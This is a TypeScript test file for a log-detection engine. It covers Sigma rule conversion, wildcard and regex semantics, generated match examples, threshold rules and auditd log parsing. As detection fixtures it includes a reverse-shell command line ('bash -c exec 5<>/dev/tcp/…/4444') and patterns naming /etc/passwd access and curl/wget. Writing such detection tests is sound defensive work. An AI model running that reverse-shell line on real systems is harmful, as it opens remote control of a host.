import { describe, expect, it } from 'vitest';
import { loadPack } from '../src/cli/load-pack';
import { SkipLedger } from '../src/decode/skips';
import { normalizePayload } from '../src/engine/pipeline';
import { Normalizer } from '../src/parse/normalize';
import { compileSelection } from '../src/rules/selection';
import { findNearMiss, findWitness } from '../src/rules/witness';
import type { NormalizedEvent } from '../src/schema/event';
import { convertSigma, trimUnanchoredRegex } from '../src/sigma/convert';
import { DEFAULT_SIGMA_MAPPING } from '../src/sigma/default-mapping';
import { generateRuleTests } from '../src/sigma/generated-tests';

/** Converts one Sigma web-server selection; the predicate sees `text` in the field it maps to. */
function sigmaMatcher(key: string, value: unknown): (text: string) => boolean {
  const { converted, skipped } = convertSigma(
    [
      {
        file: 'spec.yml',
        doc: { title: 'Spec', logsource: { category: 'webserver' }, detection: { sel: { [key]: value }, condition: 'sel' } },
      },
    ],
    DEFAULT_SIGMA_MAPPING,
  );
  const rule = converted[0];
  if (!rule) throw new Error(`not converted: ${skipped[0]?.reason}`);
  const { predicate, fields } = compileSelection(rule.doc.match);
  return (text) => predicate(Object.fromEntries(fields.map((f) => [f, text])) as NormalizedEvent);
}

/**
 * The Sigma specification's string rules (sigma-specification, "Escaping" and "Value modifiers"):
 * `*` any run, `?` one character, `\*` `\?` `\\` literal, any other backslash literal; plain
 * values match whole and ignore case; `|cased` keeps case; `|re` is case-sensitive unless `|i`.
 */
const SPEC: [key: string, value: string, input: string, matches: boolean][] = [
  ['cs-uri-query', 'abc', 'ABC', true],
  ['cs-uri-query', 'abc', 'abcd', false],
  ['cs-uri-query', 'a*c', 'a-long-c', true],
  ['cs-uri-query', 'a*c', 'a-long-cd', false],
  ['cs-uri-query', 'a?c', 'abc', true],
  ['cs-uri-query', 'a?c', 'ac', false],
  ['cs-uri-query', String.raw`a\*c`, 'a*c', true],
  ['cs-uri-query', String.raw`a\*c`, 'abc', false],
  ['cs-uri-query', String.raw`a\?c`, 'a?c', true],
  ['cs-uri-query', String.raw`a\?c`, 'abc', false],
  // `\\*` is one backslash followed by a wildcard.
  ['cs-uri-query', String.raw`a\\*`, String.raw`a\anything`, true],
  ['cs-uri-query', String.raw`a\\*`, 'a-no-backslash', false],
  // An escaped star inside a wildcard value stays a literal star: never a regex quantifier.
  ['cs-uri-query', String.raw`a*b\*c`, 'a1b*c', true],
  ['cs-uri-query', String.raw`a*b\*c`, 'a1bc', false],
  ['cs-uri-query', String.raw`a*b\*c`, 'a1bbbc', false],
  // Any other backslash is itself; a backslash before a wildcard must be doubled to stay one.
  ['cs-uri-query', String.raw`C:\Windows\Sys*`, String.raw`c:\windows\system32`, true],
  ['cs-uri-query', String.raw`C:\Windows\*`, String.raw`c:\windows\system32`, false],
  ['cs-uri-query', String.raw`C:\Windows\*`, String.raw`c:\windows*`, true],
  ['cs-uri-query', String.raw`C:\Windows\\*`, String.raw`c:\windows\system32`, true],
  ['cs-uri-query|contains', 'x.y', 'AX.YB', true],
  ['cs-uri-query|contains', 'x.y', 'axzyb', false],
  ['cs-uri-query|startswith', 'ab*d', 'ABCDE', true],
  ['cs-uri-query|endswith', String.raw`\*`, 'end*', true],
  ['cs-uri-query|endswith', String.raw`\*`, 'end', false],
  ['cs-uri-query|cased', 'Admin', 'Admin', true],
  ['cs-uri-query|cased', 'Admin', 'admin', false],
  ['cs-uri-query|contains|cased', 'Admin', 'x-Admin-y', true],
  ['cs-uri-query|contains|cased', 'Admin', 'x-admin-y', false],
  ['cs-uri-query|re', '^Ad+min$', 'Addmin', true],
  ['cs-uri-query|re', '^Ad+min$', 'addmin', false],
  ['cs-uri-query|re|i', '^Ad+min$', 'ADDMIN', true],
  ['cs-uri-query|re', '(?i)^admin$', 'ADMIN', true],
  ['cs-uri-query|re', '^a.b$', 'a\nb', false],
  ['cs-uri-query|re|s', '^a.b$', 'a\nb', true],
  ['cs-uri-query|re', '^b$', 'a\nb', false],
  ['cs-uri-query|re|m', '^b$', 'a\nb', true],
];

describe('Sigma string semantics (specification table)', () => {
  it.each(SPEC)('%s: %j against %j → %s', (key, value, input, expected) => {
    expect(sigmaMatcher(key, value)(input)).toBe(expected);
  });
  it('|all requires every value; keywords search the whole raw line, as Sigma keywords do', () => {
    const all = sigmaMatcher('cs-uri-query|contains|all', ['one', 'two']);
    expect(all('one-two')).toBe(true);
    expect(all('one')).toBe(false);
    const { converted } = convertSigma(
      [
        {
          file: 'k.yml',
          doc: {
            title: 'K',
            logsource: { product: 'linux' },
            detection: { keywords: { '|all': ['bash -c', '/dev/tcp/'] }, condition: 'keywords' },
          },
        },
      ],
      DEFAULT_SIGMA_MAPPING,
    );
    const match = converted[0]?.doc.match;
    const { predicate } = compileSelection(match);
    expect(predicate({ 'event.original': 'sh: bash -c exec 5<>/dev/tcp/10.0.0.1/4444' } as NormalizedEvent)).toBe(true);
    expect(predicate({ 'event.original': 'bash -c ls' } as NormalizedEvent)).toBe(false);
    // A parser that splits the line (a JSON app's `msg`, a syslog body) leaves the keyword outside `message`.
    const json = '{"msg":"job finished","cmd":"bash -c exec 5<>/dev/tcp/10.0.0.1/4444"}';
    expect(predicate({ message: 'job finished', 'event.original': json } as NormalizedEvent)).toBe(true);
  });
});

describe('unanchored regex trimming keeps the same matches', () => {
  const cases: [string, string][] = [
    ['.+:assumed-role/aws:.+', '.:assumed-role/aws:.'],
    ['.*abc.*', 'abc'],
    ['.+?abc', '.+?abc'],
    [String.raw`abc\.+`, String.raw`abc\.+`],
    ['^.+abc', '^.+abc'],
  ];
  it.each(cases)('%s → %s', (from, to) => {
    expect(trimUnanchoredRegex(from)).toBe(to);
  });
  it('the trimmed regex accepts exactly the same texts', () => {
    const texts = ['arn:aws:sts::1:assumed-role/aws:x', ':assumed-role/aws:x', 'a:assumed-role/aws:', 'xx:assumed-role/aws:yy', ''];
    for (const source of ['.+:assumed-role/aws:.+', '.*role.*', '.+b']) {
      const original = new RegExp(source);
      const trimmed = new RegExp(trimUnanchoredRegex(source));
      for (const t of texts) expect(trimmed.test(t), `${source} on ${t}`).toBe(original.test(t));
    }
  });
});

describe('generated examples for a selection', () => {
  const selections: Record<string, unknown>[] = [
    { 'event.action': 'ConsoleLogin', 'event.outcome': 'failure' },
    { 'url.original|contains|all': ['/etc/', 'passwd'], not: { 'http.response.status_code': 404 } },
    { any: [{ 'process.name': 'curl' }, { 'process.name|endswith': '/wget' }], 'user.id|exists': true },
    { 'requestParameters|wildcard': '*"arn:aws:s3:::*/*"*', 'requestParameters|contains|all': ['"Allow"', '"s3:GetObject"'] },
    { 'source.ip|cidr': '10.0.0.0/8', 'destination.port|gte': 1024, 'destination.port|lt': 2000 },
    { 'user.name|fieldref': 'target.user.name', 'event.action': 'ssh_login' },
    { 'auditd.type': 'EXECVE', not: { 'auditd.a1': null } },
  ];
  it.each(selections.map((s) => [JSON.stringify(s), s] as const))('%s: the witness matches, the near miss does not', (_name, selection) => {
    const { predicate } = compileSelection(selection);
    const witness = findWitness(selection);
    if (!witness.ok) throw new Error(witness.reason);
    expect(predicate(witness.event as NormalizedEvent)).toBe(true);
    const miss = findNearMiss(selection, witness.event);
    if (!miss.ok) throw new Error(miss.reason);
    expect(predicate(miss.event as NormalizedEvent)).toBe(false);
  });
  it('says why when it cannot build one', () => {
    expect(findWitness({ 'message|re': 'a+b' })).toEqual({ ok: false, reason: expect.stringMatching(/\|re conditions/) });
    expect(findWitness({ 'a|contains|all': ['x'], not: { 'a|contains': 'x' } }).ok).toBe(false);
  });
  it('rule tests: a threshold rule fires at count and stays quiet one below', async () => {
    const doc = {
      id: 'sigma.generated_threshold',
      title: 'T',
      description: 'd',
      severity: 'medium',
      riskScore: 4,
      runbook: 'docs/runbooks/sigma-imported.md',
      match: { 'event.action': 'ssh_login', 'event.outcome': 'failure' },
      threshold: { count: 5, window: '5m', groupBy: ['source.ip'] },
    };
    const generated = await generateRuleTests(doc);
    if (!generated.ok) throw new Error(generated.reason);
    expect(generated.tests.map((t) => t.expect)).toEqual(['fire', 'none']);
    expect(JSON.stringify(generated.tests)).toContain('"repeat":4');
  });
});

describe('auditd records', () => {
  const { pack } = loadPack(['rules'], { checkRegexes: false });
  const normalizer = new Normalizer(pack.sources);
  const group = '/var/log/audit/audit.log';
  const batch = (lines: string[]) => {
    const skips = new SkipLedger();
    const events = normalizePayload(
      {
        messageType: 'DATA_MESSAGE',
        owner: '123456789012',
        logGroup: group,
        logStream: 'host-1',
        subscriptionFilters: ['f'],
        logEvents: lines.map((message, i) => ({ id: `a${i}`, timestamp: 0, message })),
      },
      normalizer,
      skips,
    );
    return { events, skipped: skips.total };
  };
  it('parses quoted and hex-encoded values and joins one event’s records by serial', () => {
    const lines = [
      'type=SYSCALL msg=audit(1740971560.123:4242): arch=c000003e syscall=59 success=yes exit=0 ppid=100 pid=4321 auid=1000 uid=0 comm="curl" exe="/usr/bin/curl" key="susp_activity"',
      'type=EXECVE msg=audit(1740971560.123:4242): argc=3 a0="curl" a1="-o" a2=2F746D702F6D792066696C65',
      'type=EXECVE msg=audit(1740971561.000:4243): argc=2 a0="ls" a1="-la"',
    ];
    const { events, skipped } = batch(lines);
    expect(skipped).toBe(0);
    const execve = events.find((e) => e['auditd.serial'] === 4242 && e['auditd.type'] === 'EXECVE');
    expect(execve).toMatchObject({
      'auditd.a2': '/tmp/my file',
      'process.command_line': 'curl -o /tmp/my file',
      // Joined from the SYSCALL record of the same serial.
      'auditd.exe': '/usr/bin/curl',
      'auditd.key': 'susp_activity',
      '@timestamp': 1740971560123,
    });
    const other = events.find((e) => e['auditd.serial'] === 4243);
    expect(other?.['auditd.exe']).toBeUndefined();
  });
  it('keeps each record’s own arguments: syscall arguments are not argv, nor argv syscall arguments', () => {
    const { events } = batch([
      'type=SYSCALL msg=audit(1740971560.123:4250): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c6c0a2a0 a1=55d0c6c0a2f0 a2=55d0c6c0a310 a3=0 items=2 ppid=100 pid=4330 uid=0 comm="id" exe="/usr/bin/id" key="exec"',
      'type=EXECVE msg=audit(1740971560.123:4250): argc=2 a0="id" a1="-u"',
      'type=EXECVE msg=audit(1740971560.123:4251): argc=6 a0="tar" a1="c" a2="f" a3="x.tar" a4="/etc" a5="/root"',
      'type=SYSCALL msg=audit(1740971560.123:4251): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=100 pid=4331 uid=0 comm="tar" exe="/usr/bin/tar"',
    ]);
    const record = (serial: number, type: string) => events.find((e) => e['auditd.serial'] === serial && e['auditd.type'] === type);
    expect(record(4250, 'EXECVE')).toMatchObject({ 'auditd.a0': 'id', 'auditd.a1': '-u', 'auditd.exe': '/usr/bin/id' });
    expect(record(4250, 'EXECVE')?.['auditd.a2']).toBeUndefined();
    expect(record(4251, 'SYSCALL')).toMatchObject({
      'auditd.a0': '1',
      'auditd.a3': '4',
      'process.command_line': 'tar c f x.tar /etc /root',
    });
    expect(record(4251, 'SYSCALL')?.['auditd.a4']).toBeUndefined();
  });
});
